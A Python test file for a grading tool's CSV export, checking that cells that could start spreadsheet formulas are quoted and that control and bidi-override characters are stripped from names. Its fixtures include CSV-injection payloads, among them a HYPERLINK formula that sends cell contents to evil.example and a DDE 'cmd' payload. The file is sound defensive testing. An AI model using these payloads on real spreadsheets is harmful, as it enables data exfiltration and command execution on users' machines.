"""CSV cells a spreadsheet opens without running them (tracer/tools/spreadsheet.py; OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io

import pytest

from tracer.grading import summary_csv
from tracer.tools import spreadsheet


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"grade")', '\'=HYPERLINK("http://evil.example/?"&A1,"grade")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Zoë O'Brien", "Zoë O'Brien"),
        ("", ""),
        ("-3.5", "-3.5"),  # a number written as text stays a number
        ("+7", "+7"),
        ("1e-3", "1e-3"),
        (-3.5, -3.5),  # numbers are never touched
        (-2, -2),
        (None, None),
    ],
)
def test_spreadsheet_a_cell_that_could_start_a_formula_gets_a_quote(value, cell):
    assert spreadsheet.safe_cell(value) == cell


def test_spreadsheet_the_writer_neutralises_every_text_cell_and_keeps_numbers():
    buf = io.StringIO()
    spreadsheet.writer(buf, lineterminator="\n").writerows([["=A1", -1.5, "-1.5", "ok"], ["@x", 0, "", "+"]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=A1", "-1.5", "-1.5", "ok"], ["'@x", "0", "", "'+"]]


def test_spreadsheet_a_grading_summary_neutralises_a_students_name():
    table = {"students": [{"student": "=HYPERLINK(1)", "score": -1.0, "error": "+oops"}, {"student": "bob"}]}
    rows = list(csv.DictReader(io.StringIO(summary_csv(table))))
    assert rows == [
        {"student": "'=HYPERLINK(1)", "score": "-1.0", "error": "'+oops"},
        {"student": "bob", "score": "", "error": ""},
    ]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("x, =HYPERLINK(1)", "x, '=HYPERLINK(1)"),
        ("b\t@SUM(A1)", "b\t'@SUM(A1)"),
        ("c|+1+cmd", "c|'+1+cmd"),
        ("d\n-2+3", "d\n'-2+3"),
        ("=e;-f", "'=e;'-f"),
        ("g;-3.5", "g;'-3.5"),  # its piece would be `-3.5",3` to a spreadsheet that splits on `;`
        ("h;i", "h;i"),
    ],
)
def test_spreadsheet_a_formula_after_a_separator_is_quoted_for_every_splitter(value, cell):
    """A spreadsheet that splits on `;` (or a tab, or `|`) must not find a formula in the cell's pieces either;
    the cell itself is written between double quotes."""
    buf = io.StringIO()
    spreadsheet.writer(buf, lineterminator="\n").writerow(["ada", value, 3])
    line = buf.getvalue()
    assert line == 'ada,"' + cell + '",3\n', line
    for delimiter in (";", ",", "\t", "|"):
        for row in csv.reader(io.StringIO(line), delimiter=delimiter):
            for piece in row:
                piece = piece.lstrip(' "')
                assert not piece.startswith(("=", "+", "@", "-")), (delimiter, row)
    assert list(csv.reader(io.StringIO(line))) == [["ada", cell, "3"]]


def test_spreadsheet_clean_name_takes_out_control_and_bidi_override_characters():
    assert spreadsheet.clean_name("Ada\u202eexe.png") == ("Adaexe.png", 1)
    assert spreadsheet.clean_name("B\x00o\x1bb\u2066\u200f") == ("Bob", 4)
    assert spreadsheet.clean_name("Ada\tLovelace") == ("Ada Lovelace", 1)
    assert spreadsheet.clean_name("Zoë O'Brien \u05e9\u05dc\u05d5\u05dd") == ("Zoë O'Brien \u05e9\u05dc\u05d5\u05dd", 0)
